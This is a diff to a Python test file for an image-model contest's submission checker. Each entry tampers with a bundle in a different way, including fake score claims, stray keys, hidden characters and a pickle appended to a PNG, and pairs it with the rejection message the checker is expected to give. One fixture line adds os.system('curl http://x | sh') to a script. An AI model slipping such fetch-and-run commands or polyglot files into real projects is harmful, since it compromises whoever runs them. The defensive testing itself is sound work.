@@ -72,6 +72,22 @@ def zipped():
     return buf.getvalue()
 
 
+def in_a_folder_beside(rel, data):
+    """The bundle moved into a folder of the repository, and another file put beside it."""
+    def edit(repo):
+        os.rename(repo, repo + ".bundle")
+        os.makedirs(repo)
+        os.rename(repo + ".bundle", os.path.join(repo, "bundle"))
+        with open(os.path.join(repo, rel), "wb") as f:
+            f.write(data)
+    return edit
+
+
+def signed_folder(repo):
+    """Where the bundle's SHA256SUMS is: the repository's top, or its bundle/ folder."""
+    return repo if os.path.exists(os.path.join(repo, "SHA256SUMS")) else os.path.join(repo, "bundle")
+
+
 def unlink(rel):
     return lambda repo: os.remove(os.path.join(repo, rel))
 
@@ -104,6 +120,7 @@ TAMPERED = [
     ("platform-threads", meta_edit(plat("threads", 2)), "platform.threads 2 is outside what the contest redraws (1)"),
     # 2. the judge's scores, and only those; the card's structured block and no contradiction
     ("card-claims", text_edit("README.md", "\n## Prompts", CLAIM + "\n## Prompts"), "the model card claims scores the judge did not compute (line"),
+    ("card-claims-top", text_edit("README.md", "\n# LoRA", "\n**CLIP score 0.99, FID 3.14** (our evaluation)\n\n# LoRA"), "the model card claims scores the judge did not compute"),
     ("card-model-index", text_edit("README.md", "library_name:", "model-index: [{results: [{metrics: [{type: fid, value: 3.14}]}]}]\nlibrary_name:"), "unknown key 'model-index'"),
     ("card-table-seed", text_edit("README.md", "| 1 |\n", "| 7 |\n"), "gives p00_1.png the number 7; its seed is 1"),
     ("card-block-seed", text_edit("README.md", '"p00_1.png", "prompt": "一幅山水画，橙色的天空，绿色的山", "seed": 1}', '"p00_1.png", "prompt": "一幅山水画，橙色的天空，绿色的山", "seed": 9}'), "the model card's repro.works are not the works of images/metadata.json"),
@@ -123,7 +140,14 @@ TAMPERED = [
     ("regenerate-edited", text_edit("regenerate.py", "import os\n", "import os\nos.system('curl http://x | sh')\n"), "regenerate.py is not the code the harness writes"),
     ("regenerate-exec", chmod("regenerate.py", 0o755), "regenerate.py is executable (mode 755)"),
     ("no-training-log", unlink("logs/events.jsonl"), "it has no logs/events.jsonl (the training log"),
-    ("machine-path", text_edit("submission.json", '"seed": 42', '"seed": 42,\n "run": "/home/alice/runs/a"'), "submission.json line 6 names a path on the machine"),
+    ("machine-path", text_edit("logs/train.log", "run_start", "run_start out: /home/alice/runs/a"), "logs/train.log line 1 names a path on the machine it was made on ('/home/alice/runs/a')"),
+    ("manifest-extra-key", text_edit("submission.json", '"seed": 42', '"seed": 42,\n "scores": {"clip_score": 0.99}'), "submission.json has the unknown key 'scores'"),
+    ("metadata-extra-key", meta_edit(lambda m: m.update(clip_score=0.99)), "images/metadata.json has the unknown key 'clip_score'"),
+    ("outside-the-folder", in_a_folder_beside("notes.md", b"hello\n"), "notes.md is outside the bundle's folder"),
+    ("png-polyglot", lambda repo: open(os.path.join(repo, "images", "p00_0.png"), "ab").write(PICKLE), "images/p00_0.png does not end with the PNG's end chunk"),
+    ("card-hidden-char", text_edit("README.md", "| ![p00_1.png](images/p00_1.png)", "| ![p00_1\u200b.png](images/p00_1.png)"), "holds an invisible character (U+200B)"),
+    ("card-other-image", text_edit("README.md", "![grid](images/grid.png)", "![best](images/best_of_100.png)"), "names the image 'best_of_100.png', which is not one of its works"),
+    ("card-base-line", text_edit("README.md", "## Training data\n", "base_model: runwayml/stable-diffusion-v1-5\n\n## Training data\n"), "gives the base model 'runwayml/stable-diffusion-v1-5'"),
     # 4. the contest sets the redraw's cost
     ("steps", meta_edit(lambda m: m.update(steps=1000)), "steps 1000 is outside what the contest redraws (1 to 50)"),
     ("scheduler", meta_edit(lambda m: m.update(scheduler="PNDMScheduler")), "scheduler pndm is not one the contest redraws with (ddim)"),
